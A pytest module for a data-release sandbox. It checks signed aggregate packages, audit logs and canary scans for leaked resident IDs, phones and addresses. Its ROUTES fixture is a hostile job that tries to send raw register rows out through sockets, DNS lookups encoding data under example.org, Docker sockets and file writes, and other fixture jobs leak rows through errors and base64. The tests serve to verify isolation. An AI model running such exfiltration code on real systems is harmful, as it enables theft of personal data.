"""The whole path of one release, played by ``sandbox demo``: what its last page says, what really left."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import signal
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from sandbox.control.kinds import KINDS
from sandbox.core.errors import SandboxError
from sandbox.demo.data import code
from sandbox.executor.docker import calls
from sandbox.executor.folders import TaskFolder
from sandbox.executor.slots import REQUIRED, Slot
from tests.plugins.engine import until
from tests.plugins.live import Live
from tests.refusal import refused

pytestmark = pytest.mark.engine

REFUSALS = {  # attempt -> the rules that must be among those named
    "原始记录改名打乱后整行带出": {"RAW_OVERLAP"},
    "身份证号藏在 base64 中": {"REVERSIBLE"},
    "只有一人的单元格": {"SMALL_CELL"},
    "提交方自己审批": {"ROLE"},
    "作业读取未授权的列": {"COLUMN_NOT_GRANTED"},
    "另一机构使用该凭证": {"NOT_RECIPIENT"},
    "协议期限超过三年": {"TERM_TOO_LONG"},
    "暂停期间提交作业": {"NOT_GRANTED"},
}


@dataclass
class Played:
    """One demonstration after its end: exit status, output, folder, the rows of each table of the page."""

    status: int
    output: str
    folder: Path

    def table(self, title: str) -> list[list[str]]:
        """Rows of the table under ``title``, continuation lines joined."""
        page = (self.folder / "summary.txt").read_text(encoding="utf-8")
        lines = page[page.index(f"{title} ") if f"{title} " in page else page.index(title) :].splitlines()[1:]
        rows: list[list[str]] = []
        for line in lines:
            if line.startswith("└"):
                break
            if line.startswith("│"):
                cells = [cell.strip() for cell in line.strip("│").split("│")]
                if rows and not cells[-1]:
                    rows[-1][0] += cells[0]
                else:
                    rows.append(cells)
        return rows


def play(folder: Path, *words: str) -> Played:
    """``sandbox demo`` as a person runs it."""
    command = [sys.executable, "-m", "sandbox.cli.main", "demo", "--folder", str(folder), *words]
    with subprocess.Popen(
        command,
        env={**os.environ, "COLUMNS": "200"},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    ) as done:
        try:
            output, errors = done.communicate(timeout=900)
        except subprocess.TimeoutExpired:
            os.killpg(done.pid, signal.SIGTERM)  # with its server and its worker
            raise
    return Played(done.returncode, output + errors, folder)


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Played:
    """In Chinese, with a register of 5,000 persons and the survey."""
    done = play(tmp_path_factory.mktemp("path") / "demo", "--rows", "5000", "--lang", "zh")
    assert done.status == 0, done.output
    return done


def test_what_went_in_and_what_left(played: Played) -> None:
    assert [row[:2] for row in played.table("进入域内")] == [["residents", "5,000"], ["survey", "6,366"]]
    left = [row[0] for row in played.table("出域")]
    assert left == ["residents/income_by_county.csv", "survey/affairs_by_age.csv", "survey/report.md"]


def test_each_refusal_names_its_rule(played: Played) -> None:
    told = {row[0]: set(re.split(r"[,\s]+", row[1])) for row in played.table("被拒绝")}
    assert set(told) == set(REFUSALS)
    assert {name: rules for name, rules in REFUSALS.items() if not rules <= told[name]} == {}


def test_the_facts_of_the_last_page(played: Played) -> None:
    facts = {row[0]: row[1] for row in played.table("记录")}
    assert facts["开发者看到的出错信息"] == "ValueError, broken.py:5"
    assert float(facts["暂停到作业记为终止"].removesuffix(" s")) < 10
    assert facts["删除证明：文件、字节、密钥、剩余"].endswith(", 0")
    entries, refused = re.fullmatch(r"(\d+) \((\d+)\)", facts["审计记录（拒绝），改一字节即发现"]).groups()  # type: ignore[union-attr]
    assert int(entries) > 100
    assert int(refused) >= 4


def packages(played: Played) -> dict[str, dict[str, bytes]]:
    """The members of every package taken."""
    found = {}
    for path in sorted((played.folder / "released").glob("*.zip")):
        with zipfile.ZipFile(path) as bundle:
            found[path.stem] = {name: bundle.read(name) for name in bundle.namelist()}
    return found


def test_the_packages_are_signed_and_whole(played: Played) -> None:
    found = packages(played)
    assert set(found) == {"residents", "survey"}
    for members in found.values():
        public = Ed25519PublicKey.from_public_bytes(bytes.fromhex(members["package.json.pub"].decode()))
        public.verify(bytes.fromhex(members["package.json.sig"].decode()), members["package.json"])
        record = json.loads(members["package.json"])
        named = {f"data/{file['path']}": file["sha256"] for file in record["files"]}
        inside = {name: content for name, content in members.items() if name.startswith("data/")}
        assert {name: hashlib.sha256(content).hexdigest() for name, content in inside.items()} == named
        assert set(members) - set(inside) == {
            "package.json",
            "package.json.sig",
            "package.json.pub",
            "ro-crate-metadata.json",
            "SOURCES.md",
            "checkpoint.txt",
        }
        assert record["recipient"] == "developer"
        assert record["sources"][0]["registration_no"] in members["SOURCES.md"].decode()
        assert {given["which"] for given in record["decisions"]} >= {"security", "business_conformity"}
        assert record["verdict"]["verdict"] in ("no_objection", "hold")
        graph = json.loads(members["ro-crate-metadata.json"])["@graph"]
        assert {node["@id"] for node in graph if node["@type"] == "File"} == set(named)


def test_the_packages_tell_of_each_tasks_isolation(played: Played) -> None:
    for members in packages(played).values():
        isolation = json.loads(members["package.json"])["isolation"]
        assert set(isolation) == {"view", "job", "check"}
        for told in isolation.values():
            assert told["attempts_tried"] == told["attempts_refused"] == len(REQUIRED)
            assert told["grades"]["network"] == "isolated"
            assert re.fullmatch("[0-9a-f]{64}", told["config_sha256"])
            assert (told["executor"], told["runtime"]) == ("docker", "runc")


def test_the_released_table_is_what_the_job_counted(played: Played) -> None:
    with (played.folder / "residents.csv").open(encoding="utf-8", newline="") as file:
        raw = list(csv.DictReader(file))
    table = packages(played)["residents"]["data/income_by_county.csv"].decode()
    for row in csv.DictReader(io.StringIO(table)):
        same = [one for one in raw if (one["district"], one["sex"]) == (row["district"], row["sex"])]
        assert len(same) == int(row["persons"]) >= 20


class Canaries:
    """Raw values of the register, found in any bytes in which they stand in full, also as base64."""

    def __init__(self, register: Path) -> None:
        with register.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        ids = {row["resident_id"] for row in rows}
        self.patterns = (
            (re.compile(r"(?<!\d)\d{17}[\dX](?!\d)"), ids),
            (re.compile(r"(?<!\d)1\d{10}(?!\d)"), {row["phone"] for row in rows}),
            (re.compile(r"(?=(贵州省[^,\"\n]{4,60}?室))"), {row["address"] for row in rows}),
            (re.compile(r"(?=([\u4e00-\u9fff]{3}))"), {row["name"] for row in rows if len(row["name"]) == 3}),
            (re.compile(r"[A-Za-z0-9+/]{24}"), {base64.b64encode(one.encode()).decode() for one in ids}),
        )
        self.some = next(iter(ids))

    def within(self, content: bytes) -> set[str]:
        text = content.decode("utf-8", errors="replace")
        return {hit for pattern, known in self.patterns for hit in pattern.findall(text) if hit in known}


def test_the_canaries_would_be_found(played: Played) -> None:
    canaries = Canaries(played.folder / "residents.csv")
    raw = (played.folder / "residents.csv").read_bytes()
    assert len(canaries.within(raw)) > 10_000
    assert canaries.within(b"x" + canaries.some.encode() + b"y") == {canaries.some}
    encoded = base64.b64encode(canaries.some.encode())
    assert canaries.within(b'{"a":"' + encoded + b'"}') == {encoded.decode()}


@pytest.mark.requirement("R-086")
def test_no_raw_value_is_in_anything_outside(played: Played) -> None:
    canaries = Canaries(played.folder / "residents.csv")
    outside = {
        f"{package}/{name}": content
        for package, members in packages(played).items()
        for name, content in members.items()
    }
    outside["what the command printed"] = played.output.encode()
    for name in ("summary.txt", "checkpoint.txt", "serve.log", "worker.log"):
        outside[name] = (played.folder / name).read_bytes()
    assert {
        name: canaries.within(content) for name, content in outside.items() if canaries.within(content)
    } == {}


@pytest.mark.requirement("R-201")
def test_logs_hold_no_raw_value_and_verify_after_the_deletion(played: Played) -> None:
    canaries = Canaries(played.folder / "residents.csv")
    with tarfile.open(played.folder / "audit.tar") as bundle:
        contents = [bundle.extractfile(member).read() for member in bundle.getmembers()]  # type: ignore[union-attr]
    contents += [(played.folder / name).read_bytes() for name in ("serve.log", "worker.log")]
    assert set().union(*(canaries.within(content) for content in contents)) == set()
    deleted = b'"action":"certify"'
    assert any(deleted in content for content in contents)  # the log goes on past the deletion
    verified = subprocess.run(
        [sys.executable, "-m", "sandbox.cli.main", "audit", "verify", str(played.folder / "audit.tar")],
        capture_output=True,
        check=False,
    )
    assert verified.returncode == 0, verified.stdout + verified.stderr


def test_the_control_plane_keeps_no_raw_value(played: Played) -> None:
    canaries = Canaries(played.folder / "residents.csv")
    files = [path for path in (played.folder / "space").rglob("*") if path.is_file()]
    # the vault's image is the data plane's, encrypted and searched in test_at_rest.py; a log is sealed
    files = [path for path in files if path.name != "vault.img" and path.parent.name != "log"]
    assert any(path.name == "sandbox.db" for path in files)
    assert {path.name: found for path in files if (found := canaries.within(path.read_bytes()))} == {}


def test_data_of_ones_own_in_english(tmp_path: Path) -> None:
    file = tmp_path / "own.csv"
    regions = ("north", "south", "east")
    lines = ["case_no,region,grade", *(f"K{n:05d},{regions[n % 3]},{n % 4}" for n in range(600))]
    file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = play(tmp_path / "demo", "--data", str(file), "--lang", "en")
    assert done.status == 0, done.output
    assert [row[:2] for row in done.table("went in")] == [["own", "600"]]
    assert [row[0] for row in done.table("left")] == ["own/counted.csv"]
    refused = {row[0]: row[1] for row in done.table("refused")}
    assert refused["a job reads a column not granted"] == "COLUMN_NOT_GRANTED"
    assert refused["another organisation uses the token"] == "NOT_RECIPIENT"
    assert all(refused.values())
    table = packages(done)["own"]["data/counted.csv"].decode()
    assert sorted(table.splitlines()) == ["east,200", "north,200", "region,persons", "south,200"]


@pytest.mark.parametrize(
    "text", ["", "no_rows,here\n", "bad name,x\n1,2\n", "unique\n" + "\n".join(map(str, range(99)))]
)
def test_data_that_cannot_be_described_is_refused_and_nothing_runs(tmp_path: Path, text: str) -> None:
    file = tmp_path / "own.csv"
    file.write_text(text, encoding="utf-8")
    done = play(tmp_path / "demo", "--data", str(file), "--lang", "en")
    assert done.status == 2
    assert "FILE_UNREADABLE" in done.output
    assert not done.folder.exists()


ROUTES = """\
import csv
import pathlib
import socket

import sandbox_job

raw = str(sandbox_job.inputs("residents").to_arrow_table().to_pylist()).encode()


def send(family, address):
    with socket.socket(family) as line:
        line.settimeout(3)
        line.connect(address)
        line.sendall(raw)


def printed():
    for _ in range(200):
        print(raw.decode(), flush=True)
    raise OSError("printed")  # what became of it, the test looks at


routes = {
    "internet": lambda: send(socket.AF_INET, ("1.1.1.1", 443)),
    "host": lambda: send(socket.AF_INET, ("127.0.0.1", SERVER)),
    "gateway": lambda: send(socket.AF_INET, ("172.17.0.1", 80)),
    "ipv6": lambda: send(socket.AF_INET6, ("2606:4700:4700::1111", 443)),
    "name": lambda: socket.getaddrinfo(raw[:20].hex() + ".example.org", 80),
    "engine": lambda: send(socket.AF_UNIX, "/run/sandbox-engine/docker.sock"),
    "docker": lambda: send(socket.AF_UNIX, "/var/run/docker.sock"),
    "input": lambda: pathlib.Path("/in/data/residents.parquet").write_bytes(raw),
    "inputs": lambda: pathlib.Path("/in/data/left").write_bytes(raw),
    "code": lambda: pathlib.Path("/in/code/left").write_bytes(raw),
    "root": lambda: pathlib.Path("/srv/left").write_bytes(raw),
    "kernel": lambda: pathlib.Path("/sys/kernel/left").write_bytes(raw),
    "stdout": printed,
}
with open(sandbox_job.output("routes.csv"), "w", newline="", encoding="utf-8") as file:
    writer = csv.writer(file)
    writer.writerow(["route", "result"])
    for name, attempt in routes.items():
        try:
            attempt()
            writer.writerow([name, "OPEN"])
        except Exception as error:
            writer.writerow([name, type(error).__name__])
"""


@pytest.fixture(scope="module")
def live(live_space: Callable[..., Live]) -> Live:
    """A running space in which a developer has tried honest, broken and hostile jobs."""
    opened = live_space("sqlite", rows=1000)
    developer = opened.story.world["li-developer"]
    base = {
        "scenario": opened.case.scenario,
        "purpose": opened.case.purpose,
        "inputs": [{"name": "residents", "entry": opened.case.entry, "columns": ["resident_id"]}],
        "language": "python",
    }
    hostile = {
        "raw_names.py": "import sandbox_job as s\nraise KeyError(str(s.inputs('residents').fetchall()[0]))\n",
        "print_all.py": "import sandbox_job\nprint(sandbox_job.inputs('residents').fetchall())\n",
        **code("attack_base64.py"),
    }
    for name, text in hostile.items():
        spec = {
            **base,
            "entry": name,
            "code": {name: text},
            "outputs": [{"path": "tokens.csv", "kind": "table"}],
        }
        job = developer.create("job", spec)["id"]
        if developer.wait("job", job, {"failed", "quarantined"})["state"] == "quarantined":
            request = opened.propose(job)
            opened.wait("egress-request", request, "auto_rejected")
    text = ROUTES.replace("SERVER", opened.space.url.rsplit(":", 1)[1])
    outputs = [{"path": "routes.csv", "kind": "table"}]
    spec = {**base, "entry": "routes.py", "code": {"routes.py": text}, "outputs": outputs}
    job = developer.create("job", spec)["id"]
    assert developer.wait("job", job, {"failed", "quarantined"})["state"] == "quarantined"
    honest = opened.propose(opened.wait("job", opened.job(), "quarantined").id)
    opened.wait("egress-request", honest, "human_review")
    return opened


@pytest.mark.requirement("R-086")
def test_every_route_out_of_a_jobs_container_is_shut(live: Live) -> None:
    """The other half of R-086, that no raw value is found outside, is the canary tests' of this module."""
    named = {
        output["path"]: output["sha256"]
        for job in live.find("job")
        for output in job.status.get("outputs", [])
        if job.state in ("quarantined", "proposed")
    }
    staging = live.places.blobs("ag-demo", live.case.scenario, "staging")
    told = staging.path(named["routes.csv"]).read_text(encoding="utf-8").splitlines()[1:]
    results = dict(line.split(",") for line in told)
    assert len(results) == 13
    assert {route for route, result in results.items() if result == "OPEN"} == set()
    written = [path for path in live.space.folder.rglob("*") if path.name == "left"]
    assert written == []


@pytest.mark.requirement("R-086")
def test_no_api_answer_to_a_developer_holds_a_raw_value(live: Live) -> None:
    canaries = Canaries(live.case.data.file)
    developer = live.story.world["li-developer"]
    answers: dict[str, bytes] = {}
    for path in ("/public/catalogue", "/public/agreements", "/public/negative-list", "/v1/me", "/v1/kinds"):
        answers[path] = developer.call("GET", path).content
    for kind in KINDS:
        answers[kind] = developer.call("GET", f"/v1/{kind}").content
        for one in json.loads(answers[kind]):
            for path in (f"/v1/{kind}/{one['id']}", f"/v1/{kind}/{one['id']}/history"):
                answers[path] = developer.call("GET", path).content
    for job in live.find("job"):
        for output in job.status.get("outputs", []):
            with pytest.raises(SandboxError) as refused:
                developer.call("GET", f"/v1/job/{job.id}/outputs/{output['path']}")
            answers[f"{job.id}/{output['path']}"] = refused.value.en.encode()
    assert len(answers) > 25
    assert {
        path: canaries.within(content) for path, content in answers.items() if canaries.within(content)
    } == {}


def test_what_a_developer_learns_of_a_failed_job_is_closed_words(live: Live) -> None:
    shown: list[dict[str, Any]] = live.story.world["li-developer"].get("/v1/job", state="failed")
    assert {one["status"]["outcome"]["error"]["class"] for one in shown} == {"KeyError", "MISSING_OUTPUT"}
    assert {one["status"]["outcome"]["log"] for one in shown} == {"sealed"}
    assert all(one["status"]["outcome"]["duration"].endswith(" s") for one in shown)
    assert not any("seconds" in one["status"]["outcome"] for one in shown)


@pytest.mark.requirement("R-153")
def test_a_checker_killed_at_work_is_a_rejection_and_gives_no_token(live: Live) -> None:
    request = live.propose(live.wait("job", live.job(), "quarantined").id)
    task = f"{request}-check"
    folder = TaskFolder(live.places.tasks, task)
    until(lambda: folder.noted("started"), 60)
    slot = Slot.of(folder)
    assert slot is not None
    with calls(live.executor.engine) as api:
        api.kill(slot.container, "SIGKILL")
    rejected = live.wait("egress-request", request, "auto_rejected")
    assert rejected.status["check"]["error"] == "TASK_FAILED"
    developer = live.story.world["li-developer"]
    assert developer.get(f"/v1/egress-request/{request}")["status"]["check"]["verdict"] == "reject"
    with refused("NOT_RELEASED"):
        developer.call("GET", f"/v1/egress-request/{request}/token")


@pytest.mark.requirement("R-086")
def test_the_processes_logs_hold_no_raw_value(live: Live) -> None:
    canaries = Canaries(live.case.data.file)
    for name in ("serve.log", "worker.log"):
        assert canaries.within((live.space.folder / name).read_bytes()) == set()
